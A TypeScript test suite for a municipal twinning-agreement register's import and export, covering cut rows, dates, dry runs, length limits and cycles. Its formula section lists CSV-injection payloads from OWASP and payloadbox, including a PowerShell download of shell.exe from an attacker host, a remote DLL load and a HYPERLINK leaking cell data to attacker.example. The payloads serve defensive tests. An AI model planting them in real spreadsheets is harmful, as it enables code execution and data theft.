// The import's checks one by one (issue 18): rows cut short, dates the
// database cannot store, formulas in and out, JSON types, length limits,
// contradictions and cycles, a plan made against an older register, and two
// imports of one file at once on PostgreSQL.
import { Writable } from 'node:stream';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import ExcelJS from 'exceljs';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openPrepared } from '../../src/cli/prepare.ts';
import { queryRows } from '../../src/db/client.ts';
import type { Context } from '../../src/domain/context.ts';
import { DomainError } from '../../src/domain/errors.ts';
import { applyImport } from '../../src/domain/transfer/exchange/apply.ts';
import { writeCsv, writeXlsx } from '../../src/domain/transfer/exchange/export.ts';
import { REGISTER_CHANGED } from '../../src/domain/transfer/exchange/failures.ts';
import { COLUMNS } from '../../src/domain/transfer/exchange/format.ts';
import { planImport } from '../../src/domain/transfer/exchange/plan.ts';
import { readFiles, type InputFile } from '../../src/domain/transfer/exchange/read.ts';
import { readEnv } from '../../src/env.ts';
import { ortsband } from '../support/cli.ts';
import { createScratchDatabase, openTestDatabase, systemCtx, type TestDatabase } from '../support/database.ts';

let db: TestDatabase;
let ctx: Context;
beforeAll(async () => {
  db = await openTestDatabase();
  ctx = systemCtx(db);
});
afterAll(async () => db?.close());

async function capture(work: (out: Writable) => Promise<unknown>): Promise<Buffer> {
  const chunks: Buffer[] = [];
  await work(new Writable({ write: (chunk, _e, done) => (chunks.push(Buffer.from(chunk)), done()) }));
  return Buffer.concat(chunks);
}
const sheetOf = (bytes: Buffer) => parse(bytes.toString().replace(/^\uFEFF/, '')) as string[][];
const csvFile = (name: string, sheet: string[][]): InputFile => ({ name, bytes: Buffer.from(stringify(sheet)) });

async function counts() {
  const [row] = await queryRows<Record<string, number>>(
    ctx.db,
    sql`select (select version::int from data_version where id = 1) as version, (select count(*)::int from agreements) as agreements, (select count(*)::int from status_events) as events,
          (select count(*)::int from citations) as citations, (select count(*)::int from agreement_parties) as parties`,
  );
  return row!;
}

/** Dry run, then apply: both verdicts, as the command line reaches them. */
async function both(files: InputFile[]) {
  const run = async (dryRun: boolean) => {
    const read = await readFiles(files);
    const plan = await planImport(ctx, read.tables, read.problems);
    if (plan.problems.length) return { refused: true, problems: plan.problems };
    await applyImport(ctx, plan, { dryRun });
    return { refused: false, problems: [] };
  };
  const dry = await run(true);
  const applied = await run(false);
  expect(applied).toEqual(dry);
  return dry;
}

describe('rows cut short', () => {
  it('60 agreement rows cut short: none is taken and no citation is deleted', async () => {
    const sheet = sheetOf(await capture((out) => writeCsv(db.anonymous, 'agreements', out)));
    expect(sheet.length).toBeGreaterThan(61);
    const before = await counts();
    // Each row keeps its id, kind, parties and counterparts, and loses the rest (sources among them).
    const cut = sheet.map((row, i) => (i >= 1 && i <= 60 ? row.slice(0, 4 + (i % 10)) : row));
    const verdict = await both([csvFile('agreements.csv', cut)]);
    expect(verdict.refused).toBe(true);
    const rows = new Set(verdict.problems.filter((p) => p.message.includes('cells but the header names')).map((p) => p.row));
    expect(rows.size).toBe(60);
    expect(verdict.problems.every((p) => p.file === 'agreements.csv' && p.row !== undefined && p.column)).toBe(true);
    expect(await counts()).toEqual(before);
  });
});

describe('dates', () => {
  it('year 0000 and 29 February of a common year are refused by the dry run as by apply, naming row and column', async () => {
    const before = await counts();
    for (const [column, date] of [['event_date', '0000'], ['event_date', '0000-01-01'], ['signed_on', '0000'], ['ends_on', '2019-02-29'], ['event_date', '2019-02-29'], ['event_date', '2019-21']] as const) {
      const file = csvFile('a.csv', [['agreement', 'kind', 'parties', 'counterparts', column, ...(column === 'event_date' ? ['event'] : [])], ['amal--dunhuang', 'vanort', '1492', 'Dunhuang', date, ...(column === 'event_date' ? ['activity_observed'] : [])]]);
      const verdict = await both([file]);
      expect(verdict.problems, `${column} ${date}`).toEqual([expect.objectContaining({ file: 'a.csv', row: 2, column, message: expect.stringContaining('is not a date') })]);
    }
    expect(await counts()).toEqual(before);
  });

  it('29 February of a leap year is stored as that day', async () => {
    const file = csvFile('a.csv', [['agreement', 'kind', 'parties', 'counterparts', 'event', 'event_date'], ['amal--dunhuang', 'vanort', '1492', 'Dunhuang', 'activity_observed', '2020-02-29']]);
    expect((await both([file])).refused).toBe(false);
    const [event] = await queryRows<{ date_min: string; date_max: string }>(ctx.db, sql`select date_min::text, date_max::text from status_events where date = '2020-02-29'`);
    expect(event).toEqual({ date_min: '2020-02-29', date_max: '2020-02-29' });
  });
});

describe('a dry run is apply rolled back', () => {
  it('a file that changes the register passes the dry run without a trace, then applies', async () => {
    const before = await counts();
    const file = csvFile('a.csv', [['agreement', 'kind', 'parties', 'counterparts', 'event', 'event_date'], ['amal--dunhuang', 'vanort', '1492', 'Dunhuang', 'activity_observed', '2021-03']]);
    const read = await readFiles([file]);
    const plan = await planImport(ctx, read.tables, read.problems);
    expect(await applyImport(ctx, plan, { dryRun: true })).toEqual({ written: 1 });
    expect(await counts()).toEqual(before);
    // The same plan, applied after its dry run: the ids the dry run gave were taken back.
    expect(await applyImport(ctx, plan)).toEqual({ written: 1 });
    expect(await counts()).toMatchObject({ events: before.events! + 1, version: before.version! + 1 });
  });

  it('a plan made before another change is refused in one line by the dry run and by apply, and nothing is written', async () => {
    const file = csvFile('a.csv', [['agreement', 'kind', 'parties', 'counterparts', 'event', 'event_date'], ['amal--dunhuang', 'vanort', '1492', 'Dunhuang', 'activity_observed', '2021-04']]);
    const read = await readFiles([file]);
    const plan = await planImport(ctx, read.tables, read.problems);
    const other = await readFiles([csvFile('b.csv', [['agreement', 'kind', 'parties', 'counterparts', 'event', 'event_date'], ['amal--dunhuang', 'vanort', '1492', 'Dunhuang', 'activity_observed', '2021-05']])]);
    await applyImport(ctx, await planImport(ctx, other.tables, other.problems));
    const before = await counts();
    for (const dryRun of [true, false]) {
      const error = await applyImport(ctx, plan, { dryRun }).catch((e: unknown) => e);
      expect(error).toBeInstanceOf(DomainError);
      expect((error as DomainError).code).toBe('CONFLICT');
      expect((error as DomainError).message).toBe(REGISTER_CHANGED);
    }
    expect(await counts()).toEqual(before);
  });
});

// Payloads: payloadbox/csv-injection-payloads (README.md, https://github.com/payloadbox/csv-injection-payloads),
// OWASP "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection) and ASVS 1.2.10 (a leading tab or NUL),
// and the one of issue 18.
const PAYLOADS = [
  '=DDE("cmd";"/C calc";"!A0")A0',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
  "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Klicka")',
  "-2+3+cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  '@SUM(A1:A2)',
];
const HIDDEN = (p: string) => [p, ` ${p}`, `\t${p}`, `\r${p}`, `\n${p}`, `\u00a0${p}`, `\u0000${p}`, p.replace(/^[=+\-@]/, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0))];

describe('formulas', () => {
  it('the import refuses every payload, however it hides, naming row and column', async () => {
    // (A NUL byte makes the whole file no CSV text: refused as a file, not as a cell.)
    for (const payload of PAYLOADS.flatMap(HIDDEN).filter((p) => !p.startsWith('\u0000'))) {
      const file = csvFile('a.csv', [['agreement', 'kind', 'parties', 'counterparts', 'official_title'], ['amal--dunhuang', 'vanort', '1492', 'Dunhuang', payload]]);
      const read = await readFiles([file]);
      const plan = await planImport(ctx, read.tables, read.problems);
      expect(plan.problems, JSON.stringify(payload)).toEqual([expect.objectContaining({ row: 2, column: 'official_title', message: expect.stringContaining('spreadsheet formula') })]);
    }
  });

  it('the export writes each payload the register holds with an apostrophe in CSV and XLSX, and the import reads it back as it was', async () => {
    const own = await openTestDatabase();
    try {
      const ownCtx = systemCtx(own);
      const values = PAYLOADS.flatMap(HIDDEN).filter((v) => !v.startsWith('\u0000')).slice(0, 40);
      const slugs = (await queryRows<{ slug: string }>(own.database.db, sql`select slug from agreements where visibility = 'public' order by id limit ${values.length}`)).map((r) => r.slug);
      expect(slugs.length).toBe(values.length);
      for (const [i, slug] of slugs.entries()) await own.database.db.execute(sql`update agreements set funding = ${values[i]!} where slug = ${slug}`);
      const csv = await capture((out) => writeCsv(own.anonymous, 'agreements', out));
      const sheet = sheetOf(csv);
      const title = sheet[0]!.indexOf('funding');
      for (const [i, slug] of slugs.entries()) {
        const cell = sheet.find((r) => r[0] === slug)![title]!;
        expect(cell, JSON.stringify(values[i])).toBe(`'${values[i]}`);
      }
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load((await capture((out) => writeXlsx(own.anonymous, out))) as unknown as ArrayBuffer);
      const agreements = workbook.getWorksheet('agreements')!;
      const cells = new Map<string, unknown>();
      agreements.eachRow((row) => cells.set(String(row.getCell(1).value), row.getCell(title + 1).value));
      // (XML reads a carriage return as a line feed: the apostrophe stands before it all the same.)
      for (const [i, slug] of slugs.entries()) expect(cells.get(slug), JSON.stringify(values[i])).toBe(`'${values[i]!.replace(/\r/g, '\n')}`);
      // Read back: the apostrophe is taken away and nothing differs from the register.
      const read = await readFiles([{ name: 'agreements.csv', bytes: csv }]);
      const plan = await planImport(ownCtx, read.tables, read.problems);
      expect(plan.problems).toEqual([]);
      expect(plan.outcomes.filter((o) => o.action !== 'unchanged')).toEqual([]);
    } finally {
      await own.close();
    }
  });
});

describe('JSON types', () => {
  it('true, 12, null, objects and lists where text belongs are problems naming row and column; a number is a number where one belongs', async () => {
    const row = { agreement: 'amal--dunhuang', kind: 'vanort', parties: '1492', counterparts: 'Dunhuang' };
    for (const [column, value] of [['official_title', true], ['official_title', 12], ['term', null], ['kind', { a: 1 }], ['parties', ['1492']], ['summary', false]] as const) {
      const file = { name: 'a.json', bytes: Buffer.from(JSON.stringify({ agreements: [row, { ...row, [column]: value }] })) };
      const verdict = await both([file]);
      expect(verdict.problems, `${column} ${JSON.stringify(value)}`).toEqual([expect.objectContaining({ file: 'a.json', row: 3, column, message: expect.stringContaining('is not text') })]);
    }
    const actor = { actor: 'kalix', name: 'Kalix kommun', kind: 'kommun', municipality_code: '2514' };
    const numbers = await readFiles([{ name: 'a.json', bytes: Buffer.from(JSON.stringify({ actors: [{ ...actor, seat_lat: 65.85, seat_lon: '23,16' }] })) }]);
    expect(numbers.problems).toEqual([]);
    const coded = await readFiles([{ name: 'a.json', bytes: Buffer.from(JSON.stringify({ actors: [{ ...actor, municipality_code: 2514 }] })) }]);
    expect(coded.problems).toEqual([expect.objectContaining({ row: 2, column: 'municipality_code', message: 'the number 2514 is not text; write the value in quotes, or leave the column out' })]);
  });
});

describe('length limits', () => {
  it('every column has a limit, stated in its description; a cell over it is a problem naming the column and the limit', async () => {
    for (const c of Object.values(COLUMNS).flat()) {
      expect(c.max, c.name).toBeGreaterThan(0);
      expect(c.en).toContain(`at most ${c.max.toLocaleString('en')} characters`);
      expect(c.sv).toContain(`högst ${c.max.toLocaleString('sv-SE')} tecken`);
    }
    const max = COLUMNS.agreements.find((c) => c.name === 'official_title')!.max;
    const file = (title: string) => csvFile('a.csv', [['agreement', 'kind', 'parties', 'counterparts', 'official_title'], ['amal--dunhuang', 'vanort', '1492', 'Dunhuang', title]]);
    expect((await both([file('x'.repeat(max + 1))])).problems).toEqual([
      { file: 'a.csv', table: 'agreements', row: 2, column: 'official_title', message: `the cell holds ${(max + 1).toLocaleString('en')} characters; the column official_title takes at most ${max.toLocaleString('en')}` },
    ]);
    const read = await readFiles([file('x'.repeat(max))]);
    expect((await planImport(ctx, read.tables, read.problems)).problems).toEqual([]);
  });
});

describe('contradictions and cycles', () => {
  const agreementFile = (rows: string[][]) => csvFile('a.csv', [['agreement', 'kind', 'parties', 'counterparts', 'parent'], ...rows]);

  it('a municipality code and a name that disagree are a problem, not a match by the code', async () => {
    const verdict = await both([agreementFile([['amal--dunhuang', 'vanort', '1492 Kalix kommun', 'Dunhuang', '']])]);
    expect(verdict.problems).toContainEqual(expect.objectContaining({ row: 2, column: 'parties', message: "'1492 Kalix kommun': the municipality code 1492 is Åmåls kommun's, not 'Kalix kommun'; correct the code or the name" }));
    expect((await both([agreementFile([['amal--dunhuang', 'vanort', '1492 Åmåls kommun', 'Dunhuang', '']])])).refused).toBe(false);
  });

  it('an agreement that would be its own parent or ancestor, within the file or with the register, is a problem', async () => {
    const [g] = await queryRows<{ kind: string; party: string; place: string }>(
      ctx.db,
      sql`select a.kind, (select p.slug from agreement_parties x join actors p on p.id = x.actor_id where x.agreement_id = a.id and x.role = 'party' limit 1) as party,
            (select c.slug from agreement_counterparts x join counterparts c on c.id = x.counterpart_id where x.agreement_id = a.id limit 1) as place
          from agreements a where slug = 'goteborg--shanghai'`,
    );
    const row = (parent: string) => ['goteborg--shanghai', g!.kind, g!.party, g!.place, parent];
    const self = await both([agreementFile([row('goteborg--shanghai')])]);
    expect(self.problems).toContainEqual(expect.objectContaining({ row: 2, column: 'parent', message: expect.stringContaining('its own parent') }));
    // The register has goteborg--shanghai--2003 inside goteborg--shanghai.
    const viaRegister = await both([agreementFile([row('goteborg--shanghai--2003')])]);
    expect(viaRegister.problems).toContainEqual(expect.objectContaining({ row: 2, column: 'parent', message: expect.stringContaining('goteborg--shanghai > goteborg--shanghai--2003 > goteborg--shanghai') }));
  });

  it('counterparts inside each other, inside themselves, or moved are problems', async () => {
    const places = (rows: string) => [{ name: 'p.csv', bytes: Buffer.from(`counterpart,country,parent,name_latin,level\n${rows}`) }];
    expect((await both(places('ort-a,CN,ort-b,Ort A,county\nort-b,CN,ort-a,Ort B,county\n'))).problems).toContainEqual(expect.objectContaining({ column: 'parent', message: expect.stringContaining('in a circle') }));
    expect((await both(places('lanzhou,CN,Gansu > Lanzhou,Lanzhou,prefecture_city\n'))).problems).toContainEqual(expect.objectContaining({ row: 2, column: 'parent', message: expect.stringContaining('cannot lie inside itself') }));
    expect((await both(places('gansu,CN,Gansu > Lanzhou,Gansu,province\n'))).problems).toContainEqual(expect.objectContaining({ row: 2, column: 'parent', message: expect.stringContaining('cannot lie inside itself') }));
    expect((await both(places('lanzhou,CN,Zhejiang,Lanzhou,prefecture_city\n'))).problems).toContainEqual(expect.objectContaining({ row: 2, column: 'parent', message: expect.stringContaining('a place does not move') }));
  });
});

describe('two imports of one file at once (PostgreSQL)', () => {
  const url = readEnv().TEST_DATABASE_URL;
  // PGlite is one process's database (a folder lock keeps a second out); the race is PostgreSQL's.
  it.skipIf(!url)('one wins; the other writes nothing and says in one line that the register changed', { timeout: 600_000 }, async () => {
    const scratch = await createScratchDatabase(url!);
    const dir = await mkdtemp(path.join(tmpdir(), 'ortsband-concurrent-'));
    try {
      await (await openPrepared({ kind: 'postgres', url: scratch.url, poolSize: 2 })).database.close();
      const outcomes: string[] = [];
      for (let round = 0; round < 4; round++) {
        const rows = Array.from({ length: 400 }, (_, i) => [`samtidig-${round}-${i}`, 'vanort', '1492', 'Dunhuang', 'established', String(1990 + (i % 30)), `Anteckning ${i} ${'x'.repeat(200)}`]);
        const file = path.join(dir, `r${round}.csv`);
        await writeFile(file, stringify([['agreement', 'kind', 'parties', 'counterparts', 'event', 'event_date', 'event_note'], ...rows]));
        const runs = await Promise.all([0, 1].map(() => ortsband('--database', scratch.url, 'import', '--summary', file)));
        for (const run of runs) {
          // No message longer than a line or two; never the statement and its values.
          for (const line of run.stderr.split('\n')) expect(line.length, line.slice(0, 200)).toBeLessThan(400);
          expect(run.stderr.length).toBeLessThan(4_000);
          if (run.code !== 0) {
            expect(run.code).toBe(1);
            expect(run.stderr).toContain(REGISTER_CHANGED);
          }
        }
        expect(runs.some((r) => r.code === 0)).toBe(true);
        outcomes.push(runs.map((r) => r.code).join('+'));
        const check = await openPrepared({ kind: 'postgres', url: scratch.url, poolSize: 1 });
        try {
          const [n] = await queryRows<{ agreements: number; events: number }>(
            check.database.db,
            sql`select count(*)::int as agreements, (select count(*)::int from status_events e join agreements a on a.id = e.agreement_id where a.slug like ${`samtidig-${round}-%`}) as events
                from agreements where slug like ${`samtidig-${round}-%`}`,
          );
          expect(n).toEqual({ agreements: 400, events: 400 });
        } finally {
          await check.database.close();
        }
      }
      console.log(`concurrent imports, exit codes per round: ${outcomes.join(', ')}`);
    } finally {
      await rm(dir, { recursive: true, force: true });
      await scratch.drop();
    }
  });
});
